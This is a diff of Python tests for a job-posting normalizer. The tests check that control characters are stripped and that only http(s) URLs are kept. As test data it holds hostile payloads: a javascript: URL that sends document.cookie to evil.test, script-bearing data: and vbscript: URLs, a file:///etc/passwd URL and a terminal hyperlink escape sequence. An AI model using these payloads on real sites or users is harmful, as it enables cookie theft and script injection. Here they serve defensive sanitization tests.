@@ -333,3 +333,92 @@ WORDS = st.sampled_from(
 def test_random_text_obeys_the_schema(words, noise):
     check_invariants(normalize_text(words + noise))
     check_invariants(normalize_text(noise + "\n" + words, location=noise[:40] or None))
+
+
+# --- hostile input at the mapper boundary (docs/operations.md, "Hostile input") ------------------------------
+HOSTILE_CONTROLS = "".join(chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F, 0x85, 0x9B))
+_CONTROL_SET = set(HOSTILE_CONTROLS)
+
+
+def greenhouse_raw(**payload) -> dict:
+    return {
+        "source": "greenhouse",
+        "board": "acme",
+        "external_id": "1",
+        "url": payload.get("absolute_url"),
+        "payload": {"id": 1, "title": "Backend Engineer", "content": "<p>Go and PostgreSQL.</p>", **payload},
+    }
+
+
+def test_control_characters_leave_every_text_of_a_posting():
+    raw = greenhouse_raw(
+        title=f"Senior\x00 Backend{HOSTILE_CONTROLS}Engineer\x1b[31m",
+        company_name=f"Acme{HOSTILE_CONTROLS} Inc",
+        location={"name": "Berlin,\x0b Germany\x07"},
+        departments=[{"name": "Platform\x1b"}],
+        content=f"<p>We use Go\x00 and PostgreSQL.{HOSTILE_CONTROLS}</p><ul><li>Kafka\x1f</li></ul>Salary\x08 $150k",
+        absolute_url="https://example.test/jobs/1",
+    )
+    posting = normalize(raw)
+    assert posting.title == "Senior Backend Engineer[31m"
+    assert posting.company == "Acme Inc"
+    for value in (
+        posting.title,
+        posting.company,
+        posting.department,
+        posting.description_text,
+        *(loc.raw for loc in posting.locations),
+        *posting.skill_evidence.values(),
+        *(r.raw or "" for r in posting.pay_ranges),
+    ):
+        assert value is not None and not _CONTROL_SET & set(value), repr(value)
+    assert "\n" in posting.description_text  # line breaks stay
+    assert {"Go", "PostgreSQL"} <= set(posting.skills)
+
+
+def test_a_plain_text_description_loses_its_control_characters():
+    text = f"Backend Engineer\x1b]8;;http://evil.test\x07\nWe use Go.\x00\r\nRemote.{HOSTILE_CONTROLS}"
+    posting = normalize_text(text)
+    assert posting.title == "Backend Engineer]8;;http://evil.test"
+    assert not _CONTROL_SET & set(posting.description_text)
+
+
+@pytest.mark.parametrize(
+    ("absolute_url", "expected"),
+    [
+        ("https://boards.greenhouse.io/acme/jobs/1", "https://boards.greenhouse.io/acme/jobs/1"),
+        (" https://boards.greenhouse.io/acme/jobs/1 ", "https://boards.greenhouse.io/acme/jobs/1"),
+        ("javascript:alert(document.cookie)", None),
+        ("data:text/html,<script>alert(1)</script>", None),
+        ("file:///etc/passwd", None),
+        ("vbscript:msgbox(1)", None),
+        ("//evil.test/jobs/1", None),
+        ("/jobs/1", None),
+    ],
+)
+def test_only_http_urls_become_url_and_apply_url(absolute_url, expected):
+    raw = greenhouse_raw(absolute_url=absolute_url)
+    posting = normalize(raw)
+    assert (posting.url, posting.apply_url, posting.sources[0].url) == (expected, expected, expected)
+    assert raw["payload"]["absolute_url"] == absolute_url  # the raw value stays in the payload
+
+
+def test_a_hostile_apply_url_falls_back_to_the_posting_url():
+    payload = {
+        "id": "abc",
+        "text": "Backend Engineer",
+        "hostedUrl": "https://jobs.lever.co/acme/abc",
+        "applyUrl": "javascript:fetch('//evil.test?'+document.cookie)",
+        "categories": {},
+        "descriptionPlain": "Go services.",
+    }
+    posting = normalize({"source": "lever", "board": "acme", "external_id": "abc", "url": None, "payload": payload})
+    assert (posting.url, posting.apply_url) == ("https://jobs.lever.co/acme/abc", "https://jobs.lever.co/acme/abc")
+
+
+def test_a_jsonld_javascript_url_falls_back_to_the_page():
+    job = {"@type": "JobPosting", "title": "Backend Engineer", "identifier": "7", "url": "javascript:alert(1)"}
+    payload = {"page_url": "https://careers.example.test/jobs/7", "jobposting": job}
+    raw = {"source": "jsonld", "board": "careers.example.test", "external_id": "7", "url": job["url"]}
+    posting = normalize({**raw, "payload": payload})
+    assert posting.url == posting.apply_url == "https://careers.example.test/jobs/7"
